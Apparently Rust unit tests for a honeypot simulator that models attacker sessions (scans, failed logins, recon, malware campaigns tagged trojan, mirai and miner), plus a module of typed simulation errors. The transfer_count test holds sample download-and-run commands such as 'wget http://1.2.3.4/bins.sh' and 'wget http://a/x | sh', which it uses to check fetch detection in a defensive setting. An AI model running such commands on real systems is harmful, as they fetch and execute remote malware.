            catalog: &f.eco.catalog,
            creds: &f.eco.creds,
            pool: f.eco.pool_ref(),
        }
    }

    fn plan_with(behavior: Behavior, protocol: Protocol) -> SessionPlan {
        SessionPlan {
            day: 3,
            start_secs: 1000,
            honeypot: 5,
            protocol,
            client: ClientRef(0),
            behavior,
            seed: 99,
        }
    }

    #[test]
    fn scan_plan_yields_no_cred_record() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Scan { linger_secs: 5 }, Protocol::Telnet),
            &mut tags,
        );
        assert!(rec.logins.is_empty());
        assert!(rec.commands.is_empty());
        assert_eq!(rec.protocol, Protocol::Telnet);
        assert_eq!(rec.ssh_client_version, None);
        assert_eq!(rec.duration_secs, 5);
    }

    #[test]
    fn scan_with_long_linger_times_out() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Scan { linger_secs: 75 }, Protocol::Ssh),
            &mut tags,
        );
        assert_eq!(rec.ended_by, hf_honeypot::EndReason::Timeout);
        assert_eq!(rec.duration_secs, 60);
        assert!(rec.ssh_client_version.is_some());
    }

    #[test]
    fn scout_plan_fails_logins() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Scout { attempts: 3 }, Protocol::Ssh),
            &mut tags,
        );
        assert_eq!(rec.logins.len(), 3);
        assert!(!rec.login_succeeded());
        assert!(rec.commands.is_empty());
    }

    #[test]
    fn login_idle_times_out() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(
                Behavior::LoginIdle {
                    idle_to_timeout: true,
                },
                Protocol::Ssh,
            ),
            &mut tags,
        );
        assert!(rec.login_succeeded());
        assert!(rec.commands.is_empty());
        assert_eq!(rec.ended_by, hf_honeypot::EndReason::Timeout);
        assert!(rec.duration_secs >= 180);
    }

    #[test]
    fn recon_plan_runs_commands_without_files() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Recon { variant: 2 }, Protocol::Ssh),
            &mut tags,
        );
        assert!(rec.login_succeeded());
        assert!(!rec.commands.is_empty());
        assert!(rec.file_hashes.is_empty(), "recon must not create files");
        assert!(rec.uris.is_empty());
        assert!(tags.is_empty());
    }

    #[test]
    fn h1_script_produces_stable_hash_and_tag() {
        let f = fixture();
        let c = ctx(&f, true);
        let h1 = f.eco.catalog.by_name("H1").unwrap().id;
        let mut tags = TagDb::new();
        let rec1 = execute_plan(
            &c,
            &plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh),
            &mut tags,
        );
        let mut p2 = plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh);
        p2.seed = 12345;
        p2.honeypot = 17;
        let rec2 = execute_plan(&c, &p2, &mut tags);
        assert!(rec1.login_succeeded());
        assert_eq!(rec1.file_hashes.len(), 1);
        assert_eq!(
            rec1.file_hashes, rec2.file_hashes,
            "campaign identity: same script, same hash, any honeypot"
        );
        assert_eq!(tags.tag(&rec1.file_hashes[0]), Some("trojan"));
        assert!(rec1.uris.is_empty(), "H1 is CMD, not CMD+URI");
    }

    #[test]
    fn downloader_script_produces_uri_download_and_hash() {
        let f = fixture();
        let c = ctx(&f, true);
        let h5 = f.eco.catalog.by_name("H5").unwrap();
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Script { campaign: h5.id }, Protocol::Telnet),
            &mut tags,
        );
        assert!(rec.accessed_uri(), "downloader must record its URI");
        assert_eq!(rec.download_hashes.len(), 1);
        assert_eq!(rec.file_hashes.len(), 1);
        assert_eq!(
            rec.download_hashes[0], rec.file_hashes[0],
            "file content equals downloaded body"
        );
        assert_eq!(tags.tag(&rec.file_hashes[0]), Some("mirai"));
    }

    #[test]
    fn miner_script_writes_two_files() {
        let f = fixture();
        let c = ctx(&f, true);
        let m1 = f.eco.catalog.by_name("M1").unwrap().id;
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Script { campaign: m1 }, Protocol::Ssh),
            &mut tags,
        );
        assert_eq!(rec.file_hashes.len(), 2, "miner drops binary + config");
        assert!(rec.accessed_uri());
    }

    #[test]
    fn execution_is_deterministic() {
        let f = fixture();
        let c = ctx(&f, true);
        let h1 = f.eco.catalog.by_name("H1").unwrap().id;
        let p = plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh);
        let mut t1 = TagDb::new();
        let mut t2 = TagDb::new();
        assert_eq!(execute_plan(&c, &p, &mut t1), execute_plan(&c, &p, &mut t2));
    }

    #[test]
    fn transfer_count_recognizes_fetch_commands() {
        // Plain fetchers in command position.
        assert_eq!(transfer_count("wget http://1.2.3.4/bins.sh"), 1);
        assert_eq!(transfer_count("curl -O http://1.2.3.4/x"), 1);
        assert_eq!(transfer_count("ftpget -u a -p b host x x"), 1);
        assert_eq!(transfer_count("tftp -g -r update.bin 1.2.3.4"), 1);
        assert_eq!(transfer_count("tftp -gr update.bin 1.2.3.4"), 1);
        assert_eq!(transfer_count("busybox wget http://1.2.3.4/x"), 1);
        // tftp without get mode is not a fetch.
        assert_eq!(transfer_count("tftp 1.2.3.4"), 0);
        // Mentioning a fetcher is not running one.
        assert_eq!(transfer_count("echo wget"), 0);
        assert_eq!(transfer_count("cat wget.log"), 0);
        // Chained fetches each count once — no prefix/substring double
        // count, no collapsing to a single transfer.
        assert_eq!(
            transfer_count("cd /tmp; wget http://a/x && wget http://a/y"),
            2
        );
        assert_eq!(transfer_count("wget http://a/x | sh"), 1);
        assert_eq!(transfer_count("cd /tmp && chmod 777 ."), 0);
    }

    #[test]
    fn is_transfer_line_wraps_count() {
        assert!(is_transfer_line("wget http://a/x"));
        assert!(!is_transfer_line("echo wget"));
    }

    #[test]
    fn prepared_matches_cached_execution() {
        let f = fixture();
        let c = ctx(&f, true);
        let h5 = f.eco.catalog.by_name("H5").unwrap().id;
        let plans = vec![
            plan_with(Behavior::Script { campaign: h5 }, Protocol::Telnet),
            plan_with(Behavior::Recon { variant: 3 }, Protocol::Ssh),
            plan_with(Behavior::Scan { linger_secs: 5 }, Protocol::Telnet),
        ];
        let mut lazy_cache = ScriptCache::new();
        let mut lazy_tags = TagDb::new();
        let lazy: Vec<_> = plans
            .iter()
            .map(|p| execute_plan_cached(&c, p, &mut lazy_tags, &mut lazy_cache))
            .collect();

        let mut pre_cache = ScriptCache::new();
        pre_cache.precompute_day(&c, &plans);
        assert_eq!(pre_cache.len(), lazy_cache.len());
        let mut pre_tags = TagDb::new();
        let prepared: Vec<_> = plans
            .iter()
            .map(|p| execute_plan_prepared(&c, p, &mut pre_tags, &pre_cache).unwrap())
            .collect();

        assert_eq!(lazy, prepared);
        assert_eq!(lazy_tags.len(), pre_tags.len());
        for (h, e) in lazy_tags.iter() {
            assert_eq!(pre_tags.tag(h), Some(e.tag.as_str()));
        }
    }

    #[test]
    fn full_prepared_matches_reference_execution() {
        // The prepared full-emulation path (pre-parsed scripts, digest
        // hints, quiet execution) must be bit-identical to execute_plan for
        // every behavior shape.
        let f = fixture();
        let c = ctx(&f, true);
        let h5 = f.eco.catalog.by_name("H5").unwrap().id;
        let h1 = f.eco.catalog.by_name("H1").unwrap().id;
        let plans = vec![
            plan_with(Behavior::Script { campaign: h5 }, Protocol::Telnet),
            plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh),
            plan_with(Behavior::Recon { variant: 3 }, Protocol::Ssh),
            plan_with(Behavior::Scan { linger_secs: 5 }, Protocol::Telnet),
            plan_with(Behavior::Scout { attempts: 2 }, Protocol::Ssh),
            plan_with(
                Behavior::LoginIdle {
                    idle_to_timeout: false,
                },
                Protocol::Ssh,
            ),
        ];
        let mut prepared = PreparedScripts::new();
        prepared.prepare_day(&c, &plans);
        assert!(!prepared.is_empty());

        let mut ref_tags = TagDb::new();
        let reference: Vec<_> = plans
            .iter()
            .map(|p| execute_plan(&c, p, &mut ref_tags))
            .collect();
        let mut full_tags = TagDb::new();
        let full: Vec<_> = plans
            .iter()
            .map(|p| execute_plan_full(&c, p, &mut full_tags, &prepared).unwrap())
            .collect();

        assert_eq!(reference, full);
        assert_eq!(ref_tags.len(), full_tags.len());
        for (h, e) in ref_tags.iter() {
            assert_eq!(full_tags.tag(h), Some(e.tag.as_str()));
        }
    }

    #[test]
    fn missing_prepared_entry_is_a_typed_error() {
        let f = fixture();
        let c = ctx(&f, true);
        let h1 = f.eco.catalog.by_name("H1").unwrap().id;
        let empty = PreparedScripts::new();
        let mut tags = TagDb::new();
        let err = execute_plan_full(
            &c,
            &plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh),
            &mut tags,
            &empty,
        )
        .unwrap_err();
        assert!(matches!(
            err,
            crate::error::SimError::MissingPreparedScript { campaign, .. } if campaign == h1.0
        ));

        let empty_cache = ScriptCache::new();
        let err = execute_plan_prepared(
            &c,
            &plan_with(Behavior::Recon { variant: 3 }, Protocol::Ssh),
            &mut tags,
            &empty_cache,
        )
        .unwrap_err();
        assert!(matches!(
            err,
            crate::error::SimError::MissingPreparedRecon { .. }
        ));
    }
}
