//! Typed simulation errors.
//!
//! The day loop's prepared paths (pre-parsed scripts for full emulation,
//! pre-computed outcomes for the script cache) rely on a coverage contract:
//! the serial pre-pass must visit every plan the workers will execute. A gap
//! is a caller bug, but it should fail loudly with the missing key — not
//! panic mid-shard where the unwind obscures which plan was uncovered.

/// A simulation-level failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SimError {
    /// A plan referenced a campaign variant the day pre-pass never prepared.
    MissingPreparedScript {
        /// Campaign id (`CampaignId.0`).
        campaign: u32,
        /// Variant active on the plan's day.
        variant: u32,
    },
    /// A plan referenced a recon template the day pre-pass never prepared.
    MissingPreparedRecon {
        /// Recon cache key (`variant ^ (seed % 8)`).
        key: u64,
    },
}

impl std::fmt::Display for SimError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SimError::MissingPreparedScript { campaign, variant } => write!(
                f,
                "day pre-pass did not prepare campaign {campaign} variant {variant} \
                 (prepare_day/precompute_day must cover every plan executed)"
            ),
            SimError::MissingPreparedRecon { key } => write!(
                f,
                "day pre-pass did not prepare recon template {key} \
                 (prepare_day/precompute_day must cover every plan executed)"
            ),
        }
    }
}

impl std::error::Error for SimError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_names_the_missing_key() {
        let e = SimError::MissingPreparedScript {
            campaign: 7,
            variant: 2,
        };
        let s = e.to_string();
        assert!(s.contains("campaign 7"));
        assert!(s.contains("variant 2"));
        let r = SimError::MissingPreparedRecon { key: 11 }.to_string();
        assert!(r.contains("11"));
    }
}
